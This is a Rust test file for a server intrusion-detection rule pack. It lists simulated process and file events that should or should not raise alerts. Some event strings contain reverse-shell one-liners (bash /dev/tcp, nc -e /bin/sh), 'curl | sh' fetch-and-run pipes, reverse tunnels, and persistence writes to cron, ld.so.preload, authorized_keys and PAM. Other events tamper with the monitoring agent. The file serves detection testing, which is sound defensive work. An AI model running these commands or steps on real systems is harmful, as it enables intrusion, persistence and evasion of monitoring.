//! Rules of the pack beyond shells and code: an attack and what looks like it.

use super::Row;
use super::hosts::{APACHE, BARE, FPM, GUNICORN, MAIL, NODE, POSTGRES, TOMCAT};

/// A management agent, PID 10; an FTP server, PID 40.
const OTHERS: &str = "
    served /srv/www
    observed 1 /sbin/init
    observed 10 :parent=1 /usr/sbin/zabbix_agentd zabbix_agentd
    observed 40 :parent=1 /usr/sbin/vsftpd vsftpd
    observed 41 :parent=40 :uid=1000 /usr/sbin/vsftpd vsftpd
    end";

/// php-fpm and its worker (11), cron (8) and the agent (9).
const HOST: &str = "
    served /srv/www
    observed 1 /sbin/init
    observed 8 :parent=1 /usr/sbin/cron /usr/sbin/cron -f
    observed 9 :parent=1 /usr/bin/tracer tracer run
    observed 10 :parent=1 /usr/sbin/php-fpm8.2 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'
    observed 11 :parent=10 :uid=33 /usr/sbin/php-fpm8.2 'php-fpm: pool www'
    end";

#[rustfmt::skip]
pub(super) const MUST: &[Row] = &[
    // Tools, by whatever way and name.
    ("curl without a shell", FPM, "fork 11>20;;exec 20 /usr/bin/curl curl -o /tmp/x http://192.0.2.7/x", &["server-downloader medium 20"]),
    ("wget of busybox below another program", FPM, "fork 11>20;;exec 20 /usr/bin/env env x;;fork 20>21;;exec 21 /bin/busybox wget http://192.0.2.7/x", &["server-downloader medium 21"]),
    ("netcat", FPM, "fork 11>20;;exec 20 /usr/bin/nc.openbsd nc 192.0.2.7 4444", &["server-network-tool high 20"]),
    ("netcat by the loader", FPM, "fork 11>20;;exec 20 /lib64/ld-linux-x86-64.so.2 ld.so /usr/bin/nc.openbsd 192.0.2.7 4444", &["server-network-tool high 20"]),
    ("worse than what was told", FPM, "fork 11>20;;exec 20 /usr/bin/curl curl;;exec 20 /usr/bin/socat socat", &["server-downloader medium 20", "server-network-tool high 20"]),
    ("a tunnel", NODE, "fork 10>20;;exec 20 /usr/local/bin/chisel chisel client 192.0.2.7:443 R:socks", &["server-tunnel high 20"]),
    ("ssh from Tomcat", TOMCAT, "fork 10>20;;exec 20 /usr/lib/jvm/java-17/lib/jspawnhelper jspawnhelper;;exec 20 /usr/bin/ssh ssh -R 22:localhost:22 192.0.2.7", &["server-tunnel high 20"]),
    ("id without a shell", FPM, "fork 11>20;;exec 20 /usr/bin/id id", &["server-discovery low 20"]),
    ("many of them are one", FPM, "fork 11>20;;exec 20 /usr/bin/env env x;;fork 20>21;;exec 21 /usr/bin/id id;;fork 20>22;;exec 22 /usr/bin/uname uname -a;;fork 20>23;;exec 23 /usr/bin/w.procps w", &["server-discovery low 21"]),
    ("an encoder", GUNICORN, "fork 11>20;;exec 20 /usr/bin/base64 base64 -d", &["server-encoder low 20"]),
    ("a compiler", FPM, "fork 11>20;;exec 20 /usr/bin/x86_64-linux-gnu-gcc-12 gcc -shared x.c", &["server-builder medium 20"]),
    ("crontab", FPM, "fork 11>20;;exec 20 /usr/bin/crontab crontab -", &["server-persistence-tool medium 20"]),
    ("sudo", FPM, "fork 11>20;;exec 20 /usr/bin/sudo sudo -l", &["server-privilege-tool medium 20"]),
    ("nsenter", NODE, "fork 10>20;;exec 20 /usr/bin/nsenter nsenter -t 1 -m", &["server-namespace-tool medium 20"]),
    ("kubectl", NODE, "fork 10>20;;exec 20 /usr/local/bin/kubectl kubectl exec -it x -- sh", &["server-container-tool medium 20"]),
    ("a database's", POSTGRES, "fork 11>20;;exec 20 /usr/bin/curl curl http://192.0.2.7/x", &["server-downloader medium 20"]),
    ("what manages hosts runs one", OTHERS, "fork 10>20;;exec 20 /usr/bin/nc.openbsd nc -z 192.0.2.7 25", &["server-network-tool low 20"]),
    ("a network tool below CGI", APACHE, "fork 11>20;;exec 20 :script=/usr/lib/cgi-bin/x.sh /usr/bin/dash sh /usr/lib/cgi-bin/x.sh;;fork 20>21;;exec 21 /usr/bin/nc.openbsd nc 192.0.2.7 4444", &["server-network-tool high 21"]),
    // The loader, and what has no file.
    ("a program by the loader", FPM, "fork 11>20;;exec 20 /lib64/ld-linux-x86-64.so.2 ld.so /opt/x;;map 20 exec /opt/x", &["server-loader-exec medium 20"]),
    ("a memfd", FPM, "fork 11>20;;exec 20 :nlink=0 '/memfd:x' x", &["server-fileless-exec critical 20"]),
    ("written, executed, removed before", FPM, "open 11 created /tmp/x;;fork 11>20;;exec 20 :nlink=0 /tmp/x", &["server-fileless-exec critical 20"]),
    // Shells at connections.
    ("a reverse shell of a database", POSTGRES, "fork 11>20;;exec 20 :stdin=connected /usr/bin/python3.11 python3 -c pass", &["server-reverse-shell critical 20"]),
    ("bash connects by itself", FPM, "fork 11>20;;exec 20 /usr/bin/bash bash -c 'exec 5<>/dev/tcp/192.0.2.7/4444';;connect 20 192.0.2.7:4444", &["server-shell high 20", "server-shell-connection critical 20"]),
    ("and gives the connection to another", FPM, "fork 11>20;;exec 20 /usr/bin/bash bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1';;fork 20>21;;connect 21 192.0.2.7:4444;;exec 21 :stdin=connected /usr/bin/bash bash -i;;fork 21>22;;exec 22 /usr/bin/id id", &["server-shell high 20", "server-shell-connection critical 21", "server-reverse-shell critical 21"]),
    ("netcat listens", FPM, "fork 11>20;;exec 20 /usr/bin/nc.traditional nc -lp 4444 -e /bin/sh;;listen 20 4444", &["server-network-tool high 20", "server-bind-shell critical 20"]),
    // Other rights.
    ("root out of nothing", FPM, "exec 11 :uid=33 /usr/bin/convert convert;;credentials 11 0", &["server-privilege-gain critical 11"]),
    // Other processes.
    ("cron's memory", HOST, "trace 11 mem 8", &["server-process-access high 11"]),
    ("the agent", HOST, "fork 11>20;;trace 20 ptrace 9", &["server-agent-access critical 20"]),
    // Where the host begins and lets in.
    ("a job of cron", FPM, "open 11 created /etc/cron.d/php", &["server-cron-write high 11"]),
    ("crontab brings it", FPM, "fork 11>20;;exec 20 /usr/bin/crontab crontab -;;open 20 created /var/spool/cron/crontabs/tmp.a1B2c3;;rename 20 /var/spool/cron/crontabs/tmp.a1B2c3 /var/spool/cron/crontabs/www-data", &["server-persistence-tool medium 20", "server-cron-write high 20"]),
    ("a dump of a cache", "observed 1 /sbin/init\nobserved 10 :parent=1 /usr/bin/redis-server redis-server\nend", "open 10 created /var/spool/cron/temp-1.rdb;;rename 10 /var/spool/cron/temp-1.rdb /var/spool/cron/root", &["server-cron-write high 10", "server-cron-write high 10"]),
    ("a unit of systemd", FPM, "open 11 created /etc/systemd/system/x.service", &["server-systemd-write high 11"]),
    ("a unit of a user", NODE, "open 10 created /home/app/.config/systemd/user/x.timer", &["server-systemd-write high 10"]),
    ("a key", FPM, "open 11 append /root/.ssh/authorized_keys", &["server-ssh-key-write high 11"]),
    ("what is loaded everywhere", FPM, "open 11 created /etc/ld.so.preload", &["server-loader-write critical 11"]),
    ("an account", FPM, "open 11 append /etc/passwd", &["server-account-write high 11"]),
    ("by lo_export", POSTGRES, "open 11 created /etc/sudoers.d/x", &["server-account-write high 11"]),
    ("a login's script", FPM, "rename 11 /tmp/x /etc/profile.d/x.sh", &["server-startup-write high 11"]),
    ("a module of PAM", FPM, "open 11 created /usr/lib/x86_64-linux-gnu/security/pam_x.so", &["server-pam-write critical 11"]),
    ("what manages hosts writes one", OTHERS, "open 10 created /etc/cron.d/x", &["server-cron-write low 10"]),
    ("a forward", FPM, "open 11 created /var/www/.forward", &["server-mail-filter-write medium 11"]),
    // The agent's own.
    ("the agent's settings", FPM, "open 11 write /etc/tracer/tracer.yaml", &["server-agent-write critical 11"]),
    ("the agent's state moved away", FPM, "rename 11 /run/tracer/state /tmp/x", &["server-agent-write critical 11"]),
    ("and removed", FPM, "unlink 11 /run/tracer/state", &["server-agent-delete critical 11"]),
    ("a log", FPM, "fork 11>20;;exec 20 /usr/bin/rm rm;;unlink 20 /var/log/nginx/access.log", &["server-log-delete medium 20"]),
    ("two names, one after the other", FPM, "rename 11 :early-new=/tmp/b /tmp/x /tmp/a", &["server-name-race high 11"]),
    // Components.
    (".htaccess", APACHE, "open 11 created /srv/www/up/.htaccess", &["server-control-write high 11"]),
    (".user.ini by a rename", FPM, "rename 11 /tmp/x /srv/www/.user.ini", &["server-control-write high 11"]),
    ("a plugin", FPM, "open 11 created /srv/www/wp-content/plugins/x/x.php", &["server-plugin-write high 11"]),
    ("a library that php-fpm loads", FPM, "open 11 created /tmp/x.so;;fork 10>12;;map 12 :writer=11 exec /tmp/x.so", &["server-library-load high 12"]),
    ("one that PostgreSQL loads", POSTGRES, "open 11 created /tmp/x.so;;map 11 :writer=11 exec /tmp/x.so", &["server-library-load high 11"]),
    ("a user defined function", POSTGRES, "open 11 created /usr/lib/postgresql/15/lib/x.so", &["database-library-write high 11"]),
    ("INTO OUTFILE", "served /srv/www\nobserved 1 /sbin/init\nobserved 10 :parent=1 :uid=106 /usr/sbin/mariadbd mariadbd\nend", "open 10 created /srv/www/x.php", &["database-code-write high 10"]),
    ("archive_command", POSTGRES, "rename 11 /var/lib/postgresql/15/main/postgresql.auto.conf.tmp /var/lib/postgresql/15/main/postgresql.auto.conf", &["database-settings-write low 11"]),
    ("a page by FTP", OTHERS, "open 41 created /srv/www/x.php", &["ftp-code-write medium 41"]),
    ("an FTP server runs what it was given", OTHERS, "open 41 created /home/anna/x;;fork 41>42;;exec 42 /home/anna/x", &["server-dropped-exec high 42"]),
    // Mail.
    ("a shell with nothing to do", MAIL, "fork 10>20;;exec 20 /usr/bin/dash sh", &["mail-shell medium 20"]),
    ("a shell at a connection", MAIL, "fork 10>20;;exec 20 :stdin=connected /usr/bin/bash bash -i", &["mail-shell critical 20"]),
    ("a pipe that fetches", MAIL, "fork 10>20;;exec 20 /usr/bin/dash sh -c 'curl http://192.0.2.7/x | sh'", &["mail-shell medium 20"]),
    ("wget without a shell", MAIL, "fork 10>20;;exec 20 /usr/bin/wget wget http://192.0.2.7/x", &["mail-tool medium 20"]),
    ("an attachment that runs", MAIL, "open 10 created /var/spool/x;;fork 10>20;;exec 20 /var/spool/x", &["mail-dropped-exec medium 20"]),
];

#[rustfmt::skip]
pub(super) const MUST_NOT: &[Row] = &[
    ("tools of an administrator", BARE, "fork 7>20;;exec 20 /usr/bin/nc.openbsd nc -l 80;;listen 20 80;;fork 7>21;;exec 21 /usr/bin/id id;;fork 7>22;;exec 22 /usr/bin/curl curl", &[]),
    ("tools that are none of these", FPM, "fork 11>20;;exec 20 /usr/bin/convert convert;;fork 11>21;;exec 21 /usr/bin/env env;;fork 11>22;;exec 22 /usr/bin/tar tar", &[]),
    ("at a start", "observed 1 /sbin/init\nend", "fork 1>10;;exec 10 /usr/sbin/lighttpd lighttpd;;fork 10>20;;exec 20 /usr/bin/uname uname;;fork 10>21;;exec 21 /usr/bin/nc.openbsd nc -z db 3306", &[]),
    ("a CGI program that tells the system", APACHE, "fork 11>20;;exec 20 :script=/usr/lib/cgi-bin/status.sh /usr/bin/dash sh /usr/lib/cgi-bin/status.sh;;fork 20>21;;exec 21 /usr/bin/uname uname -s", &[]),
    ("a program asks a loader what another needs", FPM, "fork 11>20;;exec 20 /lib64/ld-linux-x86-64.so.2 ld.so --list /usr/bin/convert", &[]),
    ("a pipe between node and its child", NODE, "fork 10>20;;exec 20 :stdin=unix /usr/bin/convert convert", &[]),
    ("a server connects and listens", NODE, "connect 10 192.0.2.7:5432;;accept 10 192.0.2.9:40000;;listen 10 3001", &[]),
    ("an administrator's bash connects", BARE, "fork 7>20;;exec 20 /usr/bin/bash bash;;connect 20 192.0.2.7:80", &[]),
    ("a worker becomes the user that it runs as", FPM, "fork 10>12;;credentials 12 33", &[]),
    ("a server looks into its workers", FPM, "trace 10 ptrace 11;;trace 11 ptrace 11", &[]),
    ("an administrator's debugger", HOST, "fork 1>20;;exec 20 /usr/bin/bash bash;;trace 20 ptrace 8", &[]),
    ("files of those names elsewhere", FPM, "open 11 created /var/lib/app/crontab;;open 11 created /srv/app/etc/passwd;;open 11 created /tmp/x.service;;open 11 created /var/lib/app/authorized_keys", &[]),
    ("a package writes them", BARE, "fork 7>20;;exec 20 /usr/bin/dpkg dpkg;;open 20 created /etc/cron.d/php;;rename 20 /etc/passwd+ /etc/passwd;;open 20 created /etc/systemd/system/x.service", &[]),
    ("a server keeps its own logs", TOMCAT, "unlink 10 /var/log/tomcat10/catalina.2026-01-01.log", &[]),
    ("logs are rotated", FPM, "fork 1>20;;exec 20 /usr/sbin/logrotate logrotate;;rename 20 /var/log/nginx/access.log /var/log/nginx/access.log.1;;unlink 20 /var/log/nginx/access.log.9.gz", &[]),
    ("a file of the application is removed by a program", FPM, "fork 11>20;;exec 20 /usr/bin/rm rm;;unlink 20 /var/cache/app/x", &[]),
    ("java loads what it unpacked", TOMCAT, "open 10 created /tmp/libjna.so;;map 10 :writer=10 exec /tmp/libjna.so", &[]),
    ("a picture by FTP", OTHERS, "open 41 created /srv/www/cat.png", &[]),
    ("a database writes its data", POSTGRES, "open 11 write /var/lib/postgresql/15/main/base/1/1247;;open 11 created /var/lib/postgresql/15/main/pg_wal/1;;rename 11 /var/lib/postgresql/15/main/a.tmp /var/lib/postgresql/15/main/a", &[]),
    ("delivery by a command", MAIL, "fork 10>20;;exec 20 /usr/bin/dash sh -c 'vacation anna'", &[]),
    ("delivery to a box", MAIL, "fork 10>20;;open 20 append /var/mail/anna;;open 20 created /home/anna/Maildir/new/1", &[]),
    ("a filter of mail asks who the host is", MAIL, "fork 10>20;;exec 20 /usr/bin/hostname hostname", &[]),
    ("a plugin's picture", FPM, "open 11 created /srv/www/wp-content/plugins/x/x.png", &[]),
];
